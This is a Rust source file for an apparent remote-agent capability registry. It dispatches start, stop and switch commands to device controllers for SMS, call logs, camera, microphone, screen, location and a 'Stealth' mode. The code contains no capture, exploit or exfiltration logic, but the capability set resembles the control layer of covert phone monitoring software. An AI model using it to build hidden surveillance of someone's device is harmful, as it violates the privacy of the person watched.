use async_trait::async_trait;
use std::collections::HashMap;
use thiserror::Error;
use tokio::sync::{RwLock, mpsc};
use tracing::{debug, warn};

/// The capabilities a remote agent can expose.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Capability {
    Sms,
    CallLog,
    Camera,
    Microphone,
    Screen,
    Location,
    Stealth,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CapabilityAction {
    Start,
    Stop,
    Switch,
}

/// Terminal outcome of a dispatched capability command. Exactly one of these
/// is produced for every known command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AckKind {
    Started,
    Stopped,
    Error(String),
    PermissionRequested,
}

#[derive(Debug, Error)]
pub enum CapabilityError {
    #[error("permission not granted: {0}")]
    PermissionMissing(String),
    #[error("switch not supported")]
    SwitchUnsupported,
    #[error("{0}")]
    Failed(String),
}

/// A device-side controller for one capability. Implementations wrap the
/// platform capture/query machinery; this layer only drives them.
#[async_trait]
pub trait CapabilityController: Send + Sync {
    async fn start(&self) -> Result<(), CapabilityError>;

    async fn stop(&self) -> Result<(), CapabilityError>;

    /// Stop-then-start with a toggled parameter (e.g. camera facing).
    async fn switch(&self) -> Result<(), CapabilityError> {
        Err(CapabilityError::SwitchUnsupported)
    }

    /// Whether start/stop/switch changes the set of transport media tracks.
    /// Track changes force a renegotiation cycle.
    fn affects_media_tracks(&self) -> bool {
        false
    }
}

/// Handle for asking the session coordinator to renegotiate. Controllers must
/// never mutate transport state themselves; every track change funnels
/// through this so concurrent requests coalesce into one cycle.
#[derive(Clone)]
pub struct RenegotiationHandle {
    tx: mpsc::UnboundedSender<()>,
}

impl RenegotiationHandle {
    pub fn new() -> (Self, mpsc::UnboundedReceiver<()>) {
        let (tx, rx) = mpsc::unbounded_channel();
        (Self { tx }, rx)
    }

    pub fn request(&self) {
        // Receiver gone means the session is already torn down.
        let _ = self.tx.send(());
    }
}

struct Entry {
    controller: std::sync::Arc<dyn CapabilityController>,
    active: bool,
}

/// Maps capabilities to their controllers and enforces start/stop idempotence.
pub struct CapabilityRegistry {
    entries: RwLock<HashMap<Capability, Entry>>,
    reneg: RenegotiationHandle,
}

impl CapabilityRegistry {
    pub fn new(reneg: RenegotiationHandle) -> Self {
        Self {
            entries: RwLock::new(HashMap::new()),
            reneg,
        }
    }

    pub async fn register(
        &self,
        capability: Capability,
        controller: std::sync::Arc<dyn CapabilityController>,
    ) {
        let mut entries = self.entries.write().await;
        entries.insert(
            capability,
            Entry {
                controller,
                active: false,
            },
        );
    }

    pub async fn is_active(&self, capability: Capability) -> bool {
        self.entries
            .read()
            .await
            .get(&capability)
            .map(|e| e.active)
            .unwrap_or(false)
    }

    /// Dispatch a command to the matching controller. Start on an already
    /// started capability (and stop on a stopped one) is a no-op with the
    /// normal acknowledgement.
    pub async fn dispatch(&self, capability: Capability, action: CapabilityAction) -> AckKind {
        let mut entries = self.entries.write().await;
        let Some(entry) = entries.get_mut(&capability) else {
            debug!(target: "tether::capability", ?capability, "no controller registered");
            return AckKind::Error("capability not available".to_string());
        };

        let outcome = match action {
            CapabilityAction::Start => {
                if entry.active {
                    return AckKind::Started;
                }
                match entry.controller.start().await {
                    Ok(()) => {
                        entry.active = true;
                        AckKind::Started
                    }
                    Err(err) => return ack_for_error(capability, err),
                }
            }
            CapabilityAction::Stop => {
                if !entry.active {
                    return AckKind::Stopped;
                }
                match entry.controller.stop().await {
                    Ok(()) => {
                        entry.active = false;
                        AckKind::Stopped
                    }
                    Err(err) => return ack_for_error(capability, err),
                }
            }
            CapabilityAction::Switch => match entry.controller.switch().await {
                Ok(()) => {
                    entry.active = true;
                    AckKind::Started
                }
                Err(err) => return ack_for_error(capability, err),
            },
        };

        if entry.controller.affects_media_tracks() {
            self.reneg.request();
        }
        outcome
    }
}

fn ack_for_error(capability: Capability, err: CapabilityError) -> AckKind {
    match err {
        CapabilityError::PermissionMissing(detail) => {
            warn!(target: "tether::capability", ?capability, %detail, "permission missing");
            AckKind::PermissionRequested
        }
        other => {
            warn!(target: "tether::capability", ?capability, error = %other, "controller failed");
            AckKind::Error(other.to_string())
        }
    }
}
